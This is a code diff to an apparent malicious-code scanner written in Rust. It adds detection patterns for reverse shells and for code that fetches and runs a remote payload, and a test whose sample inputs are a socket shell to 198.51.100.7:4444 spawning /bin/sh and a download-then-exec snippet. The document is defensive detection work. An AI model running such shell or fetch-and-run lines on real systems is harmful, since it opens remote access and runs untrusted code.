@@ -147,6 +147,14 @@ const CODE: &[CodePattern] = &[
     ),
     ("curl ", Class::Weak, Some((Kind::Download, "curl/wget"))),
     ("wget ", Class::Weak, Some((Kind::Download, "curl/wget"))),
+    // Raw-socket shells: a tuple address, descriptors duplicated onto a socket.
+    ("connect((", Class::Target(RUN), None),
+    ("dup2(", Class::Target(NET | RUN), None),
+    (
+        "pty.spawn",
+        Class::Target(NET),
+        Some((Kind::Subprocess, "pty.spawn")),
+    ),
     (
         "os.environ)",
         Class::Target(NET),
@@ -365,6 +373,8 @@ pub struct Hits {
     pub act: u8,
     /// A bare exec/eval within reach of a decode (the obfuscation idiom).
     pub exec_near_decode: bool,
+    /// A bare exec/eval within reach of a network call (fetch and run).
+    pub exec_near_net: bool,
     pub exec: bool,
     pub decode: bool,
     pub builtins: bool,
@@ -385,6 +395,7 @@ impl Hits {
     pub fn worth_parsing(&self) -> bool {
         (self.target & self.act) != 0
             || self.exec_near_decode
+            || self.exec_near_net
             || (self.builtins && self.exec)
             || self.hex_idents >= 8
             || self.top_level
@@ -419,6 +430,7 @@ pub fn scan_with(bytes: &[u8], coarse: bool) -> Hits {
     let mut line = 1u32;
     let mut last = 0usize;
     let (mut last_exec, mut last_decode): (Option<usize>, Option<usize>) = (None, None);
+    let mut last_net: Option<usize> = None;
     let mut found = Vec::new();
     find_all(c, bytes, &mut found);
     for (pid, start, end) in found {
@@ -444,6 +456,7 @@ pub fn scan_with(bytes: &[u8], coarse: bool) -> Hits {
                 }
                 h.exec = true;
                 h.exec_near_decode |= last_decode.is_some_and(|d| start - d < NEAR);
+                h.exec_near_net |= last_net.is_some_and(|d| start - d < NEAR);
                 last_exec = Some(start);
                 if unindented_call(bytes, start) {
                     h.top_level = true;
@@ -454,7 +467,13 @@ pub fn scan_with(bytes: &[u8], coarse: bool) -> Hits {
                 h.exec_near_decode |= last_exec.is_some_and(|e| start - e < NEAR);
                 last_decode = Some(start);
             }
-            Class::Act(a) => h.act |= a,
+            Class::Act(a) => {
+                h.act |= a;
+                if a & NET != 0 {
+                    h.exec_near_net |= last_exec.is_some_and(|e| start - e < NEAR);
+                    last_net = Some(start);
+                }
+            }
             Class::EffectCall => {
                 h.act |= RUN | NET;
                 if unindented_call(bytes, start) {
@@ -607,6 +626,15 @@ mod tests {
         // Indented: inside a function, not an import-time effect.
         assert!(!scan(b"def f():\n    subprocess.run(['ls'])\n").worth_parsing());
         assert!(!scan(b"import subprocess\n").worth_parsing());
+    }
+
+    #[test]
+    fn shells_and_fetch_and_run_inside_functions_are_parsed() {
+        let shell = b"def f():\n    s = socket.socket()\n    s.connect(('198.51.100.7', 4444))\n    subprocess.call(['/bin/sh', '-i'])\n";
+        assert!(scan(shell).worth_parsing());
+        let fetch_run =
+            b"def f():\n    code = urlopen('https://x.invalid/p').read()\n    exec(code)\n";
+        assert!(scan(fetch_run).worth_parsing());
     }
 
     #[test]
